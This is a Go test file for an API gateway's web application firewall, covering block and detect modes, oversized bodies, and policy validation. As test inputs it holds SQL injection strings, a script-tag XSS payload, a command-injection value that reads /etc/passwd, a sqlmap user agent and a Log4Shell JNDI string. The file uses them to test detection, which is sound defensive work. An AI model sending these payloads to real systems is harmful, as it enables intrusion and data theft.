package edge_test

import (
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"redoubt.example/gateway/internal/edge"
	"redoubt.example/gateway/internal/waf"
	"redoubt.example/services/platform/controls"
	"redoubt.example/services/platform/telemetry"
)

// guard is loaded once: it takes a while.
var guard = sync.OnceValues(func() (*waf.Guard, error) {
	p, err := waf.ParsePolicy("block", 1, []string{"POST /v1/documents=detect", "POST /v1/inferences=off"})
	if err != nil {
		return nil, err
	}
	p.MaxBody = maxInspected
	return waf.Load(p)
})

const maxInspected = 4 << 10

func withWAF(t testing.TB) func(*edge.Config) {
	g, err := guard()
	require.NoError(t, err)
	return func(c *edge.Config) { c.WAF = g }
}

func TestAttacksAreBlocked(t *testing.T) {
	g := newGatewayWith(t, nil, unreachable(t), withWAF(t))
	token := g.Issuer.Token("alice", "payments:refund documents:read payments:credit")
	for name, tc := range map[string]struct {
		method, path, body string
		header             []string
	}{
		"SQL in a body":    {"POST", "/v1/transfers", `{"to":"alice","amount":1,"memo":"1' OR '1'='1' UNION SELECT 1--"}`, nil},
		"a script":         {"POST", "/v1/transfers", `{"to":"alice","amount":1,"memo":"<script>alert(1)</script>"}`, nil},
		"a command":        {"POST", "/v1/transfers", `{"to":"alice","amount":1,"memo":"; cat /etc/passwd"}`, nil},
		"a scanner":        {"GET", "/v1/documents", "", []string{"User-Agent", "sqlmap/1.8"}},
		"a header's value": {"GET", "/v1/documents", "", []string{"Accept-Language", "${jndi:ldap://198.51.100.7/a}"}},
	} {
		t.Run(name, func(t *testing.T) {
			r := g.do(tc.method, tc.path, token, tc.body, append(tc.header, "Idempotency-Key", "k-1")...)
			require.Equal(t, http.StatusForbidden, r.StatusCode, r.Text)
			record := g.requireDecision(r, controls.EdgeWAF)
			require.NotEmpty(t, record["rules"])
			require.GreaterOrEqual(t, record["score"], 5.0)
			require.Equal(t, "the request looks like an attack", r.Problem.Detail, "and no word of which rule")
		})
	}
}

func TestDetectedAttacksGoOn(t *testing.T) {
	g := newGatewayWith(t, nil, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }, withWAF(t))
	token := g.Issuer.Token("alice", "documents:write account:read")
	r := g.do("POST", "/v1/documents", token, `{"title":"On SQL injection","text":"Try 1' OR '1'='1' UNION SELECT password FROM users--"}`)
	require.Equal(t, http.StatusNoContent, r.StatusCode, r.Text)
	require.Contains(t, g.log.String(), `"control":"edge.waf"`)
	require.Contains(t, g.log.String(), `"mode":"detect"`)
	before := g.log.String()
	r = g.do("POST", "/v1/documents", token, `{"title":"Minutes","text":"The board agreed on Monday to publish the report."}`)
	require.Equal(t, http.StatusNoContent, r.StatusCode, r.Text)
	require.Equal(t, http.StatusNoContent, g.do("GET", "/v1/account", token, "").StatusCode)
	require.NotContains(t, g.log.String()[len(before):], `"control":"edge.waf"`, "honest requests leave no record")
}

// What isn't inspected isn't let through where findings are refused; where they are recorded alone it goes on.
func TestLongBodies(t *testing.T) {
	g := newGatewayWith(t, nil, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }, withWAF(t))
	token := g.Issuer.Token("alice", "documents:write payments:credit")
	padding := strings.Repeat(" ", maxInspected)
	r := g.do("POST", "/v1/transfers", token, `{"to":"alice","amount":1,`+padding+`"memo":"<script>alert(1)</script>"}`, "Idempotency-Key", "k-1")
	require.Equal(t, http.StatusRequestEntityTooLarge, r.StatusCode, r.Text)
	g.requireDecision(r, controls.EdgeWAF)

	before := g.log.String()
	body := `{"title":"On scripts","text":"<script>alert(1)</script>` + padding + `"}`
	require.Equal(t, http.StatusNoContent, g.do("POST", "/v1/documents", token, body).StatusCode)
	require.NotContains(t, g.log.String()[len(before):], `"control":"edge.waf"`, "neither its body nor the lack of one is a finding")
	r = g.do("POST", "/v1/documents", token, body, "User-Agent", "sqlmap/1.8")
	require.Equal(t, http.StatusNoContent, r.StatusCode)
	require.Contains(t, g.log.String()[len(before):], `"control":"edge.waf"`, "the head is inspected all the same")
}

func TestAWAFPolicyOfNoRouteIsRefused(t *testing.T) {
	p, err := waf.ParsePolicy("off", 1, []string{"POST /v1/document=off"})
	require.NoError(t, err)
	g, err := waf.Load(p)
	require.NoError(t, err)
	_, err = edge.New(edge.Config{WAF: g, Metrics: telemetry.NewMetrics("gateway")})
	require.ErrorContains(t, err, `"POST /v1/document", which isn't a route`)
}
